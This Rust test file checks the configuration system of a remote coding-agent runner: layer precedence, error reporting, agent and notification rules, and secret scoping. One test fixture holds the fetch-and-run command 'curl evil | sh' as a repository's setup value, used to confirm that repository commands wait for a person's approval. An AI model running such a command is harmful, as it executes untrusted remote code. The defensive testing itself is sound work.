//! Layers, origins and complaints, on real files.

use super::*;

struct Place {
    dir: tempfile::TempDir,
    paths: Paths,
}

impl Place {
    fn new(user: &str, repo: &str) -> Result<Self> {
        let dir = tempfile::tempdir()?;
        let paths = Paths::new(|v| (v == "HOME").then(|| dir.path().into()))?;
        std::fs::create_dir_all(&paths.config)?;
        std::fs::create_dir_all(dir.path().join("repo/.git"))?;
        std::fs::create_dir_all(dir.path().join("repo/deep/er"))?;
        std::fs::write(Config::file(&paths), user)?;
        if !repo.is_empty() {
            std::fs::write(dir.path().join("repo").join(REPO_FILE), repo)?;
        }
        Ok(Self { dir, paths })
    }

    fn read(&self, var: impl Fn(&str) -> Option<String>) -> (Config, Vec<String>) {
        let cwd = self.dir.path().join("repo/deep/er");
        let (config, problems) = Config::read(&self.paths, &cwd, var);
        let home = self.dir.path().display().to_string();
        let told = problems
            .into_iter()
            .map(|p| {
                let hint = p.hint.map(|h| format!(" ({h})")).unwrap_or_default();
                format!("{}: {}{hint}", p.place.replace(&home, "~"), p.message)
            })
            .collect();
        (config, told)
    }
}

#[test]
fn each_layer_covers_the_one_below_and_values_know_theirs() -> Result<()> {
    let place = Place::new(
        "provider = \"ssh\"\nttl = \"2h\"\nscrollback = 5\n[ssh]\nhost = \"me@box\"\n",
        "ttl = \"3h\"\nagent = \"codex\"\n",
    )?;
    let (mut config, problems) = place.read(|v| (v == "REMOTE_AGENT").then(|| "aider".to_owned()));
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!((config.provider(), config.host()), ("ssh", Some("me@box")));
    assert_eq!(config.ttl(), Some(Duration::from_secs(3 * 3600)));
    assert_eq!(config.default_agent(), "aider");
    assert_eq!(config.scrollback(), 5);
    let origin = |c: &Config, name| c.get(name).map(|(_, o)| o.to_string()).unwrap_or_default();
    assert!(origin(&config, "ttl").ends_with("repo/.remote.toml:1"));
    assert!(origin(&config, "ssh.host").ends_with("config.toml:5"));
    assert_eq!(origin(&config, "agent"), "REMOTE_AGENT");
    config.set_flag("agent=claude")?;
    assert_eq!(origin(&config, "agent"), "--config");
    assert!(config.set_flag("agnet=claude").is_err());
    assert!(config.set_flag("ttl").is_err());
    let (inside, _) = place.read(|v| match v {
        "REMOTE_SESSION" => Some("session-abc234".to_owned()),
        "REMOTE_AGENT" => Some("2".to_owned()),
        _ => None,
    });
    assert_eq!(inside.default_agent(), "codex");
    Ok(())
}

#[test]
fn whatever_is_wrong_is_told_with_its_line_and_the_nearest_name() -> Result<()> {
    let place = Place::new(
        "providr = \"ssh\"\nttl = 90\nmode = \"wild\"\nssh = 1\n[agents.x]\ncomand = [\"x\"]\n",
        "idle = \"1m\"\nsetpu = \"x\"\nwild = 1\n",
    )?;
    let (_, problems) = place.read(|v| (v == "REMOTE_TTL").then(|| "0s".to_owned()));
    let file = "~/.config/remote/config.toml";
    let all = problems.join("\n");
    for told in [
        format!("{file}:1: unknown key `providr` (did you mean `provider`?)"),
        format!("{file}:2: `ttl` must be a time such as \"90m\" or \"1h 30m\", not the number 90"),
        format!("{file}:3: `mode` must be one of \"autonomous\", \"careful\", not \"wild\""),
        format!("{file}:4: `ssh` must be a table `[ssh]`, not the number 1"),
        format!("{file}:6: unknown key `agents.x.comand` (did you mean `command`?)"),
        format!("{file}:5: `agents.x` has no command"),
        "~/repo/.remote.toml:1: `idle` is yours to set, not a repository's".to_owned(),
        "~/repo/.remote.toml:2: unknown key `setpu` (did you mean `setup`?)".to_owned(),
        "REMOTE_TTL: `ttl` must be".to_owned(),
    ] {
        assert!(all.contains(&told), "{told}\nnot in\n{all}");
    }
    assert_eq!(problems.len(), 10, "{all}");
    Ok(())
}

#[test]
fn agents_merge_field_by_field() -> Result<()> {
    let place = Place::new(
        "[agents.claude]\ncommand = [\"claude\", \"--model=x\"]\nenv = { A = \"1\" }\n\
         [agents.mine]\ncommand = [\"mine\"]\n[host.binaries]\nlinux-aarch64 = \"/b\"\n",
        "",
    )?;
    let (config, problems) = place.read(|_| None);
    assert!(problems.is_empty(), "{problems:?}");
    let claude = config.agent("claude")?;
    assert_eq!(claude.command, ["claude", "--model=x"]);
    assert_eq!(claude.resume, ["claude", "--continue"]);
    assert_eq!(claude.env.get("A").map(String::as_str), Some("1"));
    assert_eq!(
        config.agent("mine")?.argv("t", Mode::Careful),
        ["mine", "t"]
    );
    let unknown = config.agent("cluade").err().map(|e| e.hints);
    assert_eq!(unknown, Some(vec!["did you mean `claude`?".to_owned()]));
    assert!(config.host_binaries().contains_key("linux-aarch64"));
    Ok(())
}

#[test]
fn rules_and_prices_choose_machines_and_are_not_a_repositorys() -> Result<()> {
    let place = Place::new(
        "[auto]\nmax_price = 0.5\nfamily = \"m7g\"\n[[auto.rules]]\nmatch = \"gpu|cuda\"\n\
         instance = \"g6.xlarge\"\n[[auto.rules]]\nmatch = \"suite\"\ninstance = \"m6i.8xlarge\"\n",
        "",
    )?;
    let (config, problems) = place.read(|_| None);
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(
        config.auto_max_price(),
        crate::model::Money::micros(500_000)
    );
    assert_eq!(config.auto_family(), "m7g");
    let first = config
        .auto_rules()
        .iter()
        .find(|r| r.matches("the CUDA suite"));
    let told = first.map(|r| (r.instance.clone(), r.origin.to_string()));
    let (instance, origin) = told.unwrap_or_default();
    assert_eq!(instance, "g6.xlarge");
    assert!(origin.ends_with("config.toml:4"), "{origin}");
    let wrong = Place::new(
        "[auto]\nmax_price = \"much\"\n[[auto.rules]]\nmatch = \"(\"\ninstance = \"x\"\n\
         [[auto.rules]]\nmatch = \"x\"\n[[auto.rules]]\nmatsch = \"x\"\n",
        "[auto]\nfamily = \"p5\"\n",
    )?;
    let all = wrong.read(|_| None).1.join("\n");
    for told in [
        "config.toml:2: `auto.max_price` must be an amount of dollars",
        "config.toml:3: `auto.rules.match` is no regular expression",
        "config.toml:6: a rule of `auto.rules` needs match and instance",
        "config.toml:9: unknown key `auto.rules.matsch`",
        ".remote.toml:2: `auto.family` is yours to set, not a repository's",
    ] {
        assert!(all.contains(told), "{told}\nnot in\n{all}");
    }
    Ok(())
}

#[test]
fn a_repositorys_commands_need_a_persons_yes() -> Result<()> {
    let place = Place::new("check = \"mine\"\n", "setup = \"curl evil | sh\"\n")?;
    let (config, _) = place.read(|_| None);
    let commands = config.unallowed(&place.paths);
    let lines: Vec<_> = commands.iter().flat_map(RepoCommands::lines).collect();
    assert_eq!(lines, [("setup", "curl evil | sh")]);
    if let Some(commands) = &commands {
        commands.allow(&place.paths)?;
    }
    assert_eq!(config.unallowed(&place.paths), None);
    Ok(())
}

#[test]
fn nothing_set_means_this_machine_and_nobodys_choice() {
    let config = Config::default();
    assert_eq!(config.provider(), "local");
    assert!(!config.provider_is_chosen());
    assert_eq!(config.mode("ssh"), Mode::Careful);
    assert_eq!(config.mode("ec2"), Mode::Autonomous);
    assert_eq!(config.agents().count(), 6);
}

#[test]
fn notices_have_rules_and_wrong_ones_are_told_without_their_secrets() -> Result<()> {
    let (built_in, _) = Place::new("", "")?.read(|_| None);
    let ways = |c: &Config| c.notify().iter().map(|r| r.way.told()).collect::<Vec<_>>();
    assert_eq!(ways(&built_in), ["bell", "osc9"]);
    assert_eq!(built_in.notify()[0].kinds(), "blocked");
    let place = Place::new(
        "[[notify]]\nhow = \"webhook\"\nurl = \"https://hooks.example:8443/T0/s3cret\"\nafter = \"1m\"\n\
         [[notify]]\non = [\"error\", \"ended\"]\nhow = \"command\"\ncommand = \"page\"\nwhere = \"host\"\n\
         [[notify]]\nhow = \"desktop\"\n",
        "",
    )?;
    let (config, problems) = place.read(|_| None);
    assert!(problems.is_empty(), "{problems:?}");
    let told = [
        "webhook https://hooks.example:8443/…",
        "command at the host",
        "desktop",
    ];
    assert_eq!(ways(&config), told);
    assert!(!format!("{config:?}").contains("s3cret"));
    let for_host: Vec<_> = config
        .notify()
        .iter()
        .filter_map(|r| r.for_host())
        .collect();
    assert_eq!((for_host.len(), for_host[0].after_ms), (2, 60_000));
    assert!(!format!("{for_host:?}").contains("s3cret"));
    let (none, _) = Place::new("notify = []\n", "")?.read(|_| None);
    assert!(none.notify().is_empty());

    let wrong = Place::new(
        "[[notify]]\non = [\"blokced\"]\nhow = \"bell\"\n[[notify]]\nhow = \"webhook\"\n\
         [[notify]]\nhow = \"webhook\"\nurl = \"ftp://s3cret\"\n[[notify]]\nhow = \"webhook\"\nurl = 5\n\
         [[notify]]\nhow = \"bell\"\nurl = \"https://x\"\n[[notify]]\nhow = \"bell\"\nafter = \"soon\"\n\
         [[notify]]\nhwo = \"bell\"\n[[notify]]\non = []\nhow = \"bell\"\n",
        "[[notify]]\nhow = \"command\"\ncommand = \"evil\"\n",
    )?;
    let (config, all) = wrong.read(|_| None);
    let all = all.join("\n");
    for told in [
        "config.toml:2: `notify.on` must be one of \"blocked\", \"done\"",
        "config.toml:4: a rule of `notify` whose how is \"webhook\" needs url",
        "config.toml:8: `notify.url` must begin with https:// or http://",
        "config.toml:11: `notify.url` must be text in quotes",
        "config.toml:14: `notify.url` is of no use where how is \"bell\" (it belongs to `how = \"webhook\"`)",
        "config.toml:17: `notify.after` must be a time such as \"30s\"",
        "config.toml:19: unknown key `notify.hwo` (did you mean `how`?)",
        "config.toml:21: `notify.on` must be a list of",
        ".remote.toml:1: unknown key `notify`",
    ] {
        assert!(all.contains(told), "{told}\nnot in\n{all}");
    }
    assert!(!all.contains("s3cret"), "{all}");
    assert!(config.notify().is_empty(), "a repository runs nothing");
    Ok(())
}

#[test]
fn secrets_are_named_by_the_person_and_never_by_a_repository() -> Result<()> {
    let text = "secrets = [\"A\", \"B\"]\n[git.credentials]\n\"Git.example.com\" = \"C\"\n\"a/b\" = \"D\"\n\
                [agents.mine]\ncommand = [\"mine\"]\nsecrets = [\"D\"]\n";
    let apply = |scope| {
        let (mut config, mut problems) = (Config::default(), Vec::new());
        file::apply(&mut config, text, Path::new("x.toml"), scope, &mut problems);
        (config, problems)
    };
    let (config, problems) = apply(Scope::User);
    assert_eq!(config.secrets().collect::<Vec<_>>(), ["A", "B"]);
    assert_eq!(config.agent("mine")?.secrets, ["D"]);
    let first = config.git_credentials().next();
    assert_eq!(first, Some(("git.example.com", "C")));
    assert!(
        problems.len() == 1 && problems[0].message.contains("a/b"),
        "{problems:?}"
    );
    let (config, problems) = apply(Scope::Repo);
    assert_eq!(config.secrets().count(), 0);
    assert_eq!(
        config.git_credentials().next(),
        Some(("github.com", "GITHUB_TOKEN"))
    );
    assert_eq!(problems.len(), 3, "{problems:?}");
    Ok(())
}
